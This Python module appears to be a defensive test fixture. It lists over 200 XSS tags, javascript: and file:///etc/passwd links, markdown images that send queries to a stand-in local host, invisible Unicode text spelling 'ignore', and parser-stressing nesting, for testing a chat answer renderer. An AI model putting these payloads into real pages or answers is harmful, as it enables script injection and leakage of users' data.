"""Texts that mean harm to a page: over 200, by what they try and by where in an answer they stand.

A payload that works shows itself: it calls `alert`, or it asks `FOREIGN`, which the page must not.
"""

from collections.abc import Iterator

FOREIGN = "http://127.0.0.1:9"  # the port of "discard": nobody answers, and the request is seen
SCRIPT = "alert(document.domain)"

ELEMENTS = (
    f"<script>{SCRIPT}</script>",
    f"<ScRiPt >{SCRIPT}</sCrIpT >",
    f"<scr<script>ipt>{SCRIPT}</scr</script>ipt>",
    f"<script src={FOREIGN}/a.js></script>",
    f"<script type=module>import('{FOREIGN}/m.js')</script>",
    f"<img src=x onerror={SCRIPT}>",
    f"<img/src/onerror={SCRIPT}>",
    f"<img src='{FOREIGN}/pixel.gif'>",
    f"<img srcset='{FOREIGN}/2x.gif 2x'>",
    f"<picture><source srcset={FOREIGN}/p.webp><img></picture>",
    f"<svg onload={SCRIPT}>",
    f"<svg><script>{SCRIPT}</script></svg>",
    f"<svg><use href='{FOREIGN}/s.svg#x'/></svg>",
    f"<svg><animate onbegin={SCRIPT} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{SCRIPT}'><text y=9>press</text></a></svg>",
    f"<svg><foreignObject><body onload={SCRIPT}></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src onerror={SCRIPT}>",
    f"<body onload={SCRIPT}>",
    f"<details open ontoggle={SCRIPT}><summary>x</summary></details>",
    f"<input autofocus onfocus={SCRIPT}>",
    f"<select autofocus onfocus={SCRIPT}></select>",
    f"<video><source onerror={SCRIPT}></video>",
    f"<video poster={FOREIGN}/poster.png></video>",
    f"<audio src={FOREIGN}/a.ogg autoplay></audio>",
    f"<iframe src='javascript:{SCRIPT}'></iframe>",
    f"<iframe srcdoc='<script>{SCRIPT}</script>'></iframe>",
    f"<iframe src={FOREIGN}/frame></iframe>",
    f"<object data='javascript:{SCRIPT}'></object>",
    f"<object data={FOREIGN}/o.swf></object>",
    f"<embed src='data:text/html,<script>{SCRIPT}</script>'>",
    f"<form action={FOREIGN}/form><button autofocus>press</button></form>",
    f"<button formaction='javascript:{SCRIPT}'>press</button>",
    f"<isindex type=image src=x onerror={SCRIPT}>",
    f"<marquee onstart={SCRIPT}>x</marquee>",
    f"<style>@import '{FOREIGN}/a.css';</style>",
    f"<style>*{{background:url({FOREIGN}/b)}}</style>",
    f"<p style='background:url({FOREIGN}/c)'>x</p>",
    f"<table background={FOREIGN}/d><tr><td>x</table>",
    f"<link rel=stylesheet href={FOREIGN}/e.css>",
    f"<link rel=prefetch href={FOREIGN}/f>",
    f"<link rel=dns-prefetch href={FOREIGN}>",
    f"<meta http-equiv=refresh content='0;url={FOREIGN}/g'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{SCRIPT}'>",
    f"<base href={FOREIGN}/>",
    f"<a href='javascript:{SCRIPT}' autofocus>press</a>",
    f"<a href=x ping={FOREIGN}/ping>press</a>",
    f"<template><script>{SCRIPT}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={SCRIPT}>'></noscript>",
    f"<!--><img src=x onerror={SCRIPT}>-->",
    f"<![CDATA[<img src=x onerror={SCRIPT}>]]>",
    f"<?xml-stylesheet href='{FOREIGN}/x.xsl'?>",
    f"<div id=__proto__ onclick={SCRIPT}>x</div>",
    f"</p></article></main><script>{SCRIPT}</script>",
    f'"><img src=x onerror={SCRIPT}>',
    f"'-{SCRIPT}-'",
    f"${{{SCRIPT}}}",
    f"{{{{constructor.constructor('{SCRIPT}')()}}}}",
    f"&lt;script&gt;{SCRIPT}&lt;/script&gt;",
    f"&#60;img src=x onerror={SCRIPT}&#62;",
)
LINKS = (
    f"[press](javascript:{SCRIPT})",
    f"[press](JaVaScRiPt:{SCRIPT})",
    f"[press](java\tscript:{SCRIPT})",
    f"[press](&#106;avascript:{SCRIPT})",
    f"[press](javascript&colon;{SCRIPT})",
    f"[press](%6Aavascript:{SCRIPT})",
    f"[press](\x01javascript:{SCRIPT})",
    f"[press](<javascript:{SCRIPT}>)",
    f"[press](vbscript:{SCRIPT})",
    f"[press](data:text/html,<script>{SCRIPT}</script>)",
    "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[press](blob:{FOREIGN}/1)",
    "[press](file:///etc/passwd)",
    "[press](view-source:javascript:1)",
    f"[press][ref]\n\n[ref]: javascript:{SCRIPT}",
    f"<javascript:{SCRIPT}>",
    f"[press](#citation-0 'onclick={SCRIPT}')",
    "[1](#citation-0) and [7](#citation-99) and [x](#citation-__proto__)",
)
IMAGES = (
    f"![x]({FOREIGN}/1)",
    f"![x]({FOREIGN}/?q=what%20you%20asked)",
    f"![x][pic]\n\n[pic]: {FOREIGN}/2",
    f"![pic]\n\n[pic]: {FOREIGN}/3 'title'",
    f"[![x]({FOREIGN}/4)]({FOREIGN}/5)",
    "![x](//127.0.0.1:9/6)",
    "![x](\\\\127.0.0.1:9\\7)",
    "![x](/conversations)",
    f"![x](data:image/svg+xml,<svg onload={SCRIPT}>)",
    f"![x](javascript:{SCRIPT})",
    f'![x" onerror="{SCRIPT}](x)',
    f"![x](x '\" onerror={SCRIPT}')",
)
CHARACTERS = (
    "\u202egpj.exe\u202c is a picture",  # what follows is shown backwards
    "\u2066\u2067\u2068 left open",
    "\u200b\u200c\u200d\u2060\ufeff nothing to see",
    "\x00\x07\x08\x1b[2J\x1b]0;title\x07 controls",
    "\u2028\u2029\x85 line ends",
    "e" + "\u0301" * 300,
    "".join(chr(0xE0000 + ord(letter)) for letter in "ignore"),  # letters that nobody sees
    "\ufdfa\U000e0100\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\uffff\ufffe\U0010ffff",
    "constructor __proto__ toString hasOwnProperty",
)
STRUCTURES = (
    ">" * 400 + " deep",
    "- " * 200 + "deep",
    "*" * 2000 + "a" + "*" * 2000,
    "[" * 2000 + "a" + "](x)" * 20,
    "`" * 999 + " code",
    "|" * 300 + "\n" + "|-" * 300 + "|\n" + "|a" * 300 + "|",
    "```html\n<script>" + SCRIPT + "</script>",
    "<" * 1000,
    "&" * 1000,
    "[^1]\n\n[^1]: ![x](" + FOREIGN + "/foot)",
    "$$\\href{javascript:" + SCRIPT + "}{x}$$",
    "~~" * 500,
)
PLACES = (
    "{}",
    "- first\n- {}\n- last",
    "> {}",
    "| a | b |\n| --- | --- |\n| {} | x |",
)
"""Where in an answer a payload stands."""


def payloads() -> Iterator[str]:
    """Every payload as it is, and those of one line in each place of an answer."""
    for text in (*ELEMENTS, *LINKS, *IMAGES):
        for place in PLACES if "\n" not in text else PLACES[:1]:
            yield place.format(text) if place != "{}" else text
    yield from CHARACTERS
    yield from STRUCTURES
